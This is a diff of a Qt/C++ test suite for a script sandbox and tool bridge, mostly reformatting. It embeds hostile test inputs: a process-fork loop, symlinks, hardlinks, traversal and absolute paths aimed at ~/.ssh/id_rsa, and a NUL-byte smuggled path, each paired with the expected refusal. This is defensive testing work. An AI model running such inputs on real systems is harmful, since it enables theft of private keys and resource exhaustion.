-        "    print('RESULT', errno.errorcode[e.errno], len(kids))\n");
+    const QString code
+        = PythonPrelude
+        + QStringLiteral(
+              "import resource\n"
+              "soft = resource.getrlimit(resource.RLIMIT_NPROC)[0]\n"
+              "line = [l for l in open('/proc/self/cgroup').read().splitlines() if ':pids:' in l or l.startswith('0::')]\n"
+              "print('NPROC', soft)\n"
+              "print('CGROUP', ' '.join(line))\n"
+              "kids = []\n"
+              "try:\n"
+              "    for i in range(100):\n"
+              "        pid = os.fork()\n"
+              "        if pid == 0:\n"
+              "            time.sleep(5)\n"
+              "            os._exit(0)\n"
+              "        kids.append(pid)\n"
+              "except OSError as e:\n"
+              "    print('RESULT', errno.errorcode[e.errno], len(kids))\n");
     const Outcome outcome = runScript(QStringLiteral("py"), code, QString(), 20000, pidsCgroup);
     QVERIFY(outcome.finished);
     QCOMPARE(outcome.launcherFailure, QString());
@@ -846,8 +891,10 @@ void TestHostileBattery::processBudget()
         QCOMPARE(limit.maxTasks, quint64(65));
         QCOMPARE(limit.fallbackReason, QString());
         // The script is in it, RLIMIT_NPROC is the studio's, and the 65th task fails.
-        QVERIFY2(printed.value("CGROUP").contains("/" + QFileInfo(limit.cgroup).fileName().toUtf8() + " "), printed.value("CGROUP"));
-        QCOMPARE(printed.value("NPROC"), studio.rlim_cur == RLIM_INFINITY ? QByteArray("-1") : QByteArray::number(quint64(studio.rlim_cur)));
+        QVERIFY2(printed.value("CGROUP").contains("/" + QFileInfo(limit.cgroup).fileName().toUtf8() + " "),
+                 printed.value("CGROUP"));
+        QCOMPARE(printed.value("NPROC"),
+                 studio.rlim_cur == RLIM_INFINITY ? QByteArray("-1") : QByteArray::number(quint64(studio.rlim_cur)));
         QCOMPARE(printed.value("RESULT"), QByteArray("EAGAIN 64"));
         QVERIFY(outcome.cgroupRemoved);
     } else {
@@ -872,30 +919,48 @@ void TestHostileBattery::handedToTool_data()
     // (WorkDirFile: openat2 beneath the work dir). The script prints the outcome.
     QTest::addColumn<QByteArray>("body");
     QTest::addColumn<QByteArray>("expected"); ///< the script's RESULT line
-    const QByteArray hint = "; name a regular file the script wrote in its work dir, relative to it (e.g. \"out/report.csv\")";
-    QTest::newRow("8 plain file is read") << QByteArray("open('plain.txt', 'w').write('hello from the script')\ncall('plain.txt')")
-                                         << QByteArray("RESULT ok hello from the script");
-    QTest::newRow("8 symlink to secret") << QByteArray("os.symlink(HOME + '/.ssh/id_rsa', 'link')\ncall('link')")
-                                        << "RESULT invalid_arguments argument 'path': \"link\" is or passes through a symbolic link" + hint + " [path_symlink]";
-    QTest::newRow("8 symlinked directory") << QByteArray("os.symlink(HOME + '/.ssh', 'dir')\ncall('dir/id_rsa')")
-                                          << "RESULT invalid_arguments argument 'path': \"dir/id_rsa\" is or passes through a symbolic link" + hint + " [path_symlink]";
-    QTest::newRow("8 hardlink to secret") << QByteArray("print('LINK', err(lambda: os.link(HOME + '/.ssh/id_rsa', 'hard')))\ncall('hard')")
-                                         << "RESULT invalid_arguments argument 'path': \"hard\" does not exist in the work dir" + hint + " [path_not_found]";
-    QTest::newRow("8 hardlink in work dir") << QByteArray("open('a', 'w').write('x')\nos.link('a', 'b')\ncall('b')")
-                                           << "RESULT invalid_arguments argument 'path': \"b\" has 2 hard links (it may share its contents with a file outside the work dir)" + hint + " [path_hard_link]";
+    const QByteArray hint
+        = "; name a regular file the script wrote in its work dir, relative to it (e.g. \"out/report.csv\")";
+    QTest::newRow("8 plain file is read")
+        << QByteArray("open('plain.txt', 'w').write('hello from the script')\ncall('plain.txt')")
+        << QByteArray("RESULT ok hello from the script");
+    QTest::newRow("8 symlink to secret")
+        << QByteArray("os.symlink(HOME + '/.ssh/id_rsa', 'link')\ncall('link')")
+        << "RESULT invalid_arguments argument 'path': \"link\" is or passes through a symbolic link" + hint
+            + " [path_symlink]";
+    QTest::newRow("8 symlinked directory")
+        << QByteArray("os.symlink(HOME + '/.ssh', 'dir')\ncall('dir/id_rsa')")
+        << "RESULT invalid_arguments argument 'path': \"dir/id_rsa\" is or passes through a symbolic link" + hint
+            + " [path_symlink]";
+    QTest::newRow("8 hardlink to secret")
+        << QByteArray("print('LINK', err(lambda: os.link(HOME + '/.ssh/id_rsa', 'hard')))\ncall('hard')")
+        << "RESULT invalid_arguments argument 'path': \"hard\" does not exist in the work dir" + hint
+            + " [path_not_found]";
+    QTest::newRow("8 hardlink in work dir")
+        << QByteArray("open('a', 'w').write('x')\nos.link('a', 'b')\ncall('b')")
+        << "RESULT invalid_arguments argument 'path': \"b\" has 2 hard links (it may share its contents with a file outside the work dir)"
+            + hint + " [path_hard_link]";
     QTest::newRow("8 fifo") << QByteArray("os.mkfifo('pipe')\ncall('pipe')")
-                           << "RESULT invalid_arguments argument 'path': \"pipe\" is not a regular file" + hint + " [path_not_regular]";
-    QTest::newRow("9 traversal") << QByteArray("call('../../../home/.ssh/id_rsa')")
-                                << "RESULT invalid_arguments argument 'path': \"../../../home/.ssh/id_rsa\" leaves the work dir (\"..\")" + hint + " [path_traversal]";
-    QTest::newRow("9 absolute path") << QByteArray("call(HOME + '/.ssh/id_rsa')")
-                                    << QByteArray("RESULT invalid_arguments argument 'path': \"@HOME@/.ssh/id_rsa\" is an absolute path") + hint + " [path_absolute]";
-    QTest::newRow("9 NUL byte") << QByteArray("open('plain.txt', 'w').write('x')\ncall('plain.txt\\0../../x')")
-                               << "RESULT invalid_arguments argument 'path': \"plain.txt\\x00../../x\" contains a NUL byte" + hint + " [path_nul_byte]";
+                            << "RESULT invalid_arguments argument 'path': \"pipe\" is not a regular file" + hint
+            + " [path_not_regular]";
+    QTest::newRow("9 traversal")
+        << QByteArray("call('../../../home/.ssh/id_rsa')")
+        << "RESULT invalid_arguments argument 'path': \"../../../home/.ssh/id_rsa\" leaves the work dir (\"..\")" + hint
+            + " [path_traversal]";
+    QTest::newRow("9 absolute path")
+        << QByteArray("call(HOME + '/.ssh/id_rsa')")
+        << QByteArray("RESULT invalid_arguments argument 'path': \"@HOME@/.ssh/id_rsa\" is an absolute path") + hint
+            + " [path_absolute]";
+    QTest::newRow("9 NUL byte")
+        << QByteArray("open('plain.txt', 'w').write('x')\ncall('plain.txt\\0../../x')")
+        << "RESULT invalid_arguments argument 'path': \"plain.txt\\x00../../x\" contains a NUL byte" + hint
+            + " [path_nul_byte]";
     // Bad UTF-8 in the path: the shim cannot even encode it, so the raw line goes out
     // on fd 3; the bridge refuses that call before any handler sees it.
-    QTest::newRow("9 bad UTF-8") << QByteArray("os.write(3, b'{\"type\":\"call\",\"id\":\"u\",\"tool\":\"readfile\",\"args\":{\"path\":\"bad\\xffname\"}}\\n')\n"
-                                              "r = json.loads(os.read(3, 65536))['error']\nprint('RESULT', r['code'], r['message'])")
-                                << QByteArray("RESULT protocol_error invalid UTF-8 at byte offset 61");
+    QTest::newRow("9 bad UTF-8") << QByteArray(
+        "os.write(3, b'{\"type\":\"call\",\"id\":\"u\",\"tool\":\"readfile\",\"args\":{\"path\":\"bad\\xffname\"}}\\n')\n"
+        "r = json.loads(os.read(3, 65536))['error']\nprint('RESULT', r['code'], r['message'])")
+                                 << QByteArray("RESULT protocol_error invalid UTF-8 at byte offset 61");
 }
 
 void TestHostileBattery::handedToTool()
@@ -904,13 +969,17 @@ void TestHostileBattery::handedToTool()
     QFETCH(QByteArray, expected);
     QTemporaryDir dir;
     // The command reads the file it was handed and answers with its contents.
-    const QByteArray tool = R"json(, {"name": "readfile", "input_schema": {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]},
+    const QByteArray tool
+        = R"json(, {"name": "readfile", "input_schema": {"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]},
         "handler": {"kind": "command", "file_args": ["path"], "command": ["/usr/bin/python3", "-c",
         "import json, sys; a = json.load(sys.stdin); print(json.dumps({'fd': a['path'], 'content': open(a['path']).read()}))"]}})json";
-    const QByteArray script = "import os, errno, json\nfrom toolstudio import tools, ToolError\nHOME = " + QByteArray("'") + m_home.toUtf8() + "'\n"
-        "def err(f):\n    try:\n        f()\n        return 'allowed'\n    except OSError as e:\n        return errno.errorcode.get(e.errno)\n"
-        "def call(path):\n    try:\n        r = tools.readfile(path=path)\n        print('RESULT ok', r['content'], flush=True)\n"
-        "    except ToolError as e:\n        print('RESULT', e.code, e.args[0], flush=True)\n" + body + "\n";
+    const QByteArray script
+        = "import os, errno, json\nfrom toolstudio import tools, ToolError\nHOME = " + QByteArray("'") + m_home.toUtf8()
+        + "'\n"
+          "def err(f):\n    try:\n        f()\n        return 'allowed'\n    except OSError as e:\n        return errno.errorcode.get(e.errno)\n"
+          "def call(path):\n    try:\n        r = tools.readfile(path=path)\n        print('RESULT ok', r['content'], flush=True)\n"
+          "    except ToolError as e:\n        print('RESULT', e.code, e.args[0], flush=True)\n"
+        + body + "\n";
     const auto project = makeProject(dir.path(), script, R"({"run_timeout_seconds": 30})", tool);
     QVERIFY(project);
     startAlongside();
@@ -918,14 +987,14 @@ void TestHostileBattery::handedToTool()
     controller.setJournalPath(dir.path() + QStringLiteral("/journal.sqlite"));
     QByteArray out, err;
     bool done = false;
-    connect(&controller, &RunController::outputReceived, this, [&](int stream, const QByteArray &chunk) {
-        (stream == 1 ? out : err) += chunk;
-    });
+    connect(&controller, &RunController::outputReceived, this,
+            [&](int stream, const QByteArray &chunk) { (stream == 1 ? out : err) += chunk; });
     connect(&controller, &RunController::finished, this, [&] { done = true; });
     QString startError;
     QVERIFY2(controller.start(*project, QString(), &startError), qPrintable(startError));
     QTRY_VERIFY_WITH_TIMEOUT(done, 30000);
-    QVERIFY2(controller.record().status == RunStatus::Completed, qPrintable(controller.record().error + QString::fromUtf8(err)));
+    QVERIFY2(controller.record().status == RunStatus::Completed,
+             qPrintable(controller.record().error + QString::fromUtf8(err)));
     QByteArray result;
     for (const QByteArray &line : out.split('\n')) {
         if (line.startsWith("RESULT"))
